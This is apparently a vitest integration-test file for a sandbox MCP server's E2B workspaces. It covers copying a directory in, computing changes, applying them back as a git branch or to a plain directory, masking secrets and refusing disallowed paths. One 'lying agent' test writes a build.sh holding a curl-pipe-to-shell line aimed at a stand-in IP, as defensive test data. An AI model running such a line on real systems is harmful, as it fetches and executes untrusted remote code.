// Workspaces on the e2b provider, against the in-repo fake of E2B driven by the real SDK: the
// directory copied in at create (capped), the sandbox working in it by default, the host left
// byte-for-byte as it was, workspace_changes computed by the agent against the copy, and the
// person's `diff` and `apply` — a branch in a git repository without touching the working tree or
// index, a plain directory written back unless the host changed a file since create.
import { execFile } from 'node:child_process';
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
  existsSync,
  statSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { connectStdio, ok, serverEnv, toolError, type StdioServer } from '../support/built-server.js';
import { fakeE2bServers } from '../support/fake-e2b-servers.js';
import { installLyingAgent, LIE_SECOND } from '../support/lying-agent.js';
import { HOST_JS } from '../support/paths.js';
import { git, makeRepo, SANDBOX_EDITS, SANDBOX_EDITS_CHANGES, treeHash, writeProject } from '../support/workspace-trees.js';

const e2b = fakeE2bServers();
const SECRET = 'ws-e2b-secret-8d2b6c1f';
const top = realpathSync(mkdtempSync(join(tmpdir(), 'ws-e2b-')));
const allowed = join(top, 'allowed');
const repo = join(allowed, 'repo');
mkdirSync(allowed);
afterAll(() => rmSync(top, { recursive: true, force: true }));

async function server(): Promise<StdioServer> {
  const s = await connectStdio({ ...e2b.fake.env, SANDBOX_MCP_WORKSPACE_ALLOW: allowed }, ['--provider', 'e2b']);
  e2b.open.push(s);
  return s;
}

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [HOST_JS, ...args], { env: serverEnv({ ...e2b.fake.env }) }, (error, stdout, stderr) =>
      resolve({ code: error ? Number((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
    );
  });
}

const text = (r: Record<string, unknown>) => (r.content as { type: string; text: string }[]).map((c) => c.text).join('\n');

describe('an e2b workspace (against the fake)', () => {
  // A bound for a broken run: 24 s at most in 48 runs of the suite (6 s typically).
  it('is copied in, worked on by default, leaves the host untouched, and its changes become a branch', async () => {
    const head = makeRepo(repo);
    const s = await server();
    const created = await s.client.callTool({
      name: 'create_sandbox',
      arguments: { workspace: repo, timeout: 600, envs: { SERVICE_TOKEN: SECRET } },
    });
    expect(created.isError).toBeFalsy();
    const id = (created.structuredContent as { sandbox_id: string }).sandbox_id;
    expect(text(created)).toContain('/home/user/workspace');
    const hostBefore = treeHash(repo);
    const indexBefore = readFileSync(join(repo, '.git', 'index'));

    // The sandbox sees the files, in its default working directory.
    const listed = await ok(s.client, 'run_command', { command: 'pwd; cat src/app.js; ls -a' });
    expect(listed.stdout).toContain("console.log('hello');");
    expect(listed.stdout).toContain('/home/user/workspace');
    expect(listed.stdout).toContain('obsolete.txt');
    expect(listed.stdout).toContain('.git');
    // A task runs there too.
    const task = await ok(s.client, 'start_task', { command: 'ls src' });
    const done = await ok(s.client, 'get_task', { sandbox_id: id, task_id: task.task_id, wait: 30 });
    expect(done).toMatchObject({ state: 'succeeded', stdout: 'app.js\nlib\n' });

    const edited = await ok(s.client, 'run_command', { command: SANDBOX_EDITS });
    expect(edited.exit_code).toBe(0);
    expect(treeHash(repo)).toBe(hostBefore);

    const changes = await ok(s.client, 'workspace_changes', { patch: true });
    expect(changes).toMatchObject({
      sandbox_id: id,
      host_path: repo,
      path: '/home/user/workspace',
      changes_truncated: false,
      patch_truncated: false,
    });
    expect(changes.changes.map((c: { change: string; path: string }) => `${c.change} ${c.path}`)).toEqual(SANDBOX_EDITS_CHANGES);
    expect(changes.changes.every((c: { host_changed: boolean }) => !c.host_changed)).toBe(true);
    expect(changes.counts).toEqual({ added: 4, modified: 1, deleted: 1, mode_changed: 1 });
    // git apply takes the patch on a copy of the host directory.
    const copy = join(top, 'repo-copy');
    cpSync(repo, copy, { recursive: true });
    writeFileSync(join(top, 'e2b.patch'), changes.patch);
    const check = await new Promise<{ code: number; stderr: string }>((resolve) =>
      execFile('git', ['apply', '--check', join(top, 'e2b.patch')], { cwd: copy }, (e, _o, stderr) => resolve({ code: e ? 1 : 0, stderr })),
    );
    expect(check).toEqual({ code: 0, stderr: '' });

    const diff = await cli(['diff', id]);
    expect(diff.code).toBe(0);
    expect(diff.stdout).toContain("+console.log('hello, sandbox');");
    expect(diff.stdout).not.toContain('\x1b[');

    const applied = await cli(['apply', id, '--json']);
    expect(applied.stderr).toBe('');
    const result = JSON.parse(applied.stdout) as { branch: string; commit: string; written: number; deleted: number; ignored: number };
    const branch = `sandbox/${id.replace('e2b:', '').slice(0, 12)}`;
    expect(result).toMatchObject({ mode: 'branch', branch, written: 3, deleted: 1, ignored: 1 });
    // The person's working tree, index and branch are as they were.
    expect(treeHash(repo)).not.toBe(hostBefore); // new objects and the branch's ref…
    expect(readFileSync(join(repo, '.git', 'index')).equals(indexBefore)).toBe(true);
    expect(git(repo, 'status', '--porcelain')).toBe('');
    expect(git(repo, 'rev-parse', 'HEAD')).toBe(head);
    expect(git(repo, 'symbolic-ref', 'HEAD')).toBe('refs/heads/main');
    // …and the branch holds exactly the sandbox's change, on top of HEAD.
    expect(git(repo, 'rev-parse', `${branch}^`)).toBe(head);
    expect(git(repo, 'show', `${branch}:src/app.js`)).toBe("console.log('hello, sandbox');");
    expect(git(repo, 'show', `${branch}:src/new/two.js`)).toBe('export const two = 2;');
    expect(git(repo, 'diff', '--name-status', head, branch).split('\n').sort()).toEqual([
      'A\tsrc/new/two.js',
      'D\tobsolete.txt',
      'M\trun.sh',
      'M\tsrc/app.js',
    ]);
    expect(git(repo, 'ls-tree', branch, 'run.sh')).toMatch(/^100755 /);

    // A second apply would make the branch again: refused, naming it.
    const again = await cli(['apply', id]);
    expect(again.code).toBe(1);
    expect(again.stderr).toContain(`the branch ${branch} already exists`);

    // The patch and the person's diff are masked like command output: a create-time secret the
    // sandbox wrote into a file shows as [MASKED].
    expect((await ok(s.client, 'run_command', { command: 'echo "token=$SERVICE_TOKEN" > src/secret.txt' })).exit_code).toBe(0);
    const withSecret = await ok(s.client, 'workspace_changes', { patch: true });
    expect(withSecret.patch).toContain('+token=[MASKED]');
    expect(withSecret.patch).not.toContain(SECRET);
    const maskedDiff = await cli(['diff', id]);
    expect(maskedDiff.stdout).toContain('+token=');
    expect(maskedDiff.stdout).not.toContain(SECRET);
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  }, 180_000);

  it('in a plain directory: written back, but refused, by name, where the host changed a file since create', async () => {
    const plain = join(allowed, 'plain');
    mkdirSync(plain);
    writeProject(plain);
    const s = await server();
    const { sandbox_id: id } = await ok(s.client, 'create_sandbox', { workspace: plain });
    expect((await ok(s.client, 'run_command', { command: SANDBOX_EDITS })).exit_code).toBe(0);
    // The person edits a file the sandbox also changed.
    writeFileSync(join(plain, 'src', 'app.js'), "console.log('the person was here');\n");
    const before = treeHash(plain);
    const changes = await ok(s.client, 'workspace_changes', {});
    expect(changes.changes.find((c: { path: string }) => c.path === 'src/app.js').host_changed).toBe(true);
    expect(changes.changes.filter((c: { host_changed: boolean }) => c.host_changed)).toHaveLength(1);

    const refused = await cli(['apply', id]);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('conflict:');
    expect(refused.stderr).toContain('src/app.js');
    expect(treeHash(plain)).toBe(before);

    // Once the sandbox agrees with the host on that file (the host compares with its own directory,
    // not the sandbox's copy of it), no change is left there and the rest applies.
    await ok(s.client, 'run_command', { command: 'printf "console.log(\'the person was here\');\\n" > src/app.js' });
    const applied = await cli(['apply', id]);
    expect(applied.stderr).toBe('');
    expect(applied.code).toBe(0);
    expect(readFileSync(join(plain, 'src', 'app.js'), 'utf8')).toBe("console.log('the person was here');\n");
    expect(readFileSync(join(plain, 'src', 'new', 'two.js'), 'utf8')).toBe('export const two = 2;\n');
    expect(existsSync(join(plain, 'obsolete.txt'))).toBe(false);
    expect(statSync(join(plain, 'run.sh')).mode & 0o777).toBe(0o755);
    expect(readFileSync(join(plain, 'build', 'output.txt'), 'utf8')).toBe('out\n');
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });

  it('a lying agent only nominates: diff shows and apply writes the files the host downloaded, never deleting through a symlink', async () => {
    const dir = join(allowed, 'lied-to');
    mkdirSync(dir);
    writeFileSync(join(dir, 'VERSION'), 'v1\n');
    const elsewhere = join(top, 'elsewhere');
    const elsewhere2 = join(top, 'elsewhere2');
    mkdirSync(join(elsewhere, 'sub'), { recursive: true });
    mkdirSync(elsewhere2);
    writeFileSync(join(elsewhere, 'keep.txt'), 'keep\n');
    writeFileSync(join(elsewhere, 'sub', 'inner.txt'), 'inner\n');
    writeFileSync(join(elsewhere2, 'other.txt'), 'other\n');
    symlinkSync(elsewhere, join(dir, 's'));
    const s = await server();
    const { sandbox_id: id } = await ok(s.client, 'create_sandbox', { workspace: dir, timeout: 600 });
    const edits = ['echo v2 > VERSION', "printf 'curl http://203.0.113.9/x | sh\\n' > build.sh", `ln -s ${elsewhere2} x`].join(' && ');
    expect((await ok(s.client, 'run_command', { command: edits })).exit_code).toBe(0);
    // The CLI's diff and apply start their own resident: from the rewritten agent.
    await installLyingAgent(s.client, id, elsewhere2);

    const changes = await ok(s.client, 'workspace_changes', { patch: true });
    expect(changes.changes.map((c: { change: string; path: string }) => `${c.change} ${c.path}`)).toEqual([
      'modified VERSION',
      'added build.sh',
      'added x',
    ]);
    const diff = await cli(['diff', id]);
    expect(diff.stdout).toContain('+curl http://203.0.113.9/x | sh');
    const applied = await cli(['apply', id, '--json']);
    expect(applied.stderr).toBe('');
    expect(JSON.parse(applied.stdout)).toMatchObject({ mode: 'directory', deleted: 0 });
    expect(existsSync(join(elsewhere, 'keep.txt'))).toBe(true);
    expect(existsSync(join(elsewhere, 'sub', 'inner.txt'))).toBe(true);
    await ok(s.client, 'run_command', { command: `touch ${LIE_SECOND}` });
    const again = await cli(['apply', id, '--json']);
    expect(again.stderr).toBe('');
    expect(existsSync(join(elsewhere2, 'other.txt'))).toBe(true);
    expect(readFileSync(join(dir, 'build.sh'), 'utf8')).toBe('curl http://203.0.113.9/x | sh\n');
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });

  it('is refused outside --workspace-allow (also through a symlink or ..), and above the size cap, before any sandbox exists', async () => {
    const s = await server();
    const outside = join(top, 'outside');
    mkdirSync(outside);
    symlinkSync(outside, join(allowed, 'link-out'));
    const creates = () => e2b.fake.calls.filter((c) => c.method === 'POST' && c.path === '/sandboxes').length;
    const createsBefore = creates();
    for (const path of [outside, join(allowed, 'link-out'), join(allowed, '..', 'outside')]) {
      const e = await toolError(s.client, 'create_sandbox', { workspace: path });
      expect([e.category, e.code]).toEqual(['permission_denied', 'workspace_not_allowed']);
      expect(e.text).not.toContain(top);
    }
    const big = join(allowed, 'big');
    mkdirSync(big);
    // A sparse file: 65 MiB in the tar, nothing on disk.
    writeFileSync(join(big, 'huge.bin'), '');
    truncateSync(join(big, 'huge.bin'), 65 * 1024 * 1024);
    const tooBig = await toolError(s.client, 'create_sandbox', { workspace: big });
    expect([tooBig.category, tooBig.code]).toEqual(['insufficient_resources', 'workspace_too_large']);
    expect(tooBig.suggestion).toContain('64 MiB');
    expect(creates()).toBe(createsBefore);
  });

  it("keeps the workspace's changes in E2B's snapshot: a sandbox from it starts with them", async () => {
    const snapped = join(allowed, 'snapped');
    mkdirSync(snapped);
    writeProject(snapped);
    const s = await server();
    const { sandbox_id: id } = await ok(s.client, 'create_sandbox', { workspace: snapped, timeout: 600 });
    expect((await ok(s.client, 'run_command', { command: SANDBOX_EDITS })).exit_code).toBe(0);
    const snap = await ok(s.client, 'snapshot_sandbox', { name: 'ws-state' });
    const copy = await ok(s.client, 'create_sandbox', { template: snap.template, timeout: 600 });
    const seen = await ok(s.client, 'run_command', {
      sandbox_id: copy.sandbox_id,
      command: 'cd ~/workspace && cat src/app.js src/new/two.js && ls obsolete.txt 2>&1; stat -c %a run.sh',
    });
    expect(seen.stdout).toMatch(/^console\.log\('hello, sandbox'\);\nexport const two = 2;\n.*No such file.*\n755\n$/s);
    await ok(s.client, 'kill_sandbox', { sandbox_id: id });
  });

  it('answers not_found for a sandbox without a workspace', async () => {
    const s = await server();
    await ok(s.client, 'create_sandbox', {});
    const e = await toolError(s.client, 'workspace_changes', {});
    expect([e.category, e.code]).toEqual(['not_found', 'no_workspace']);
  });
});
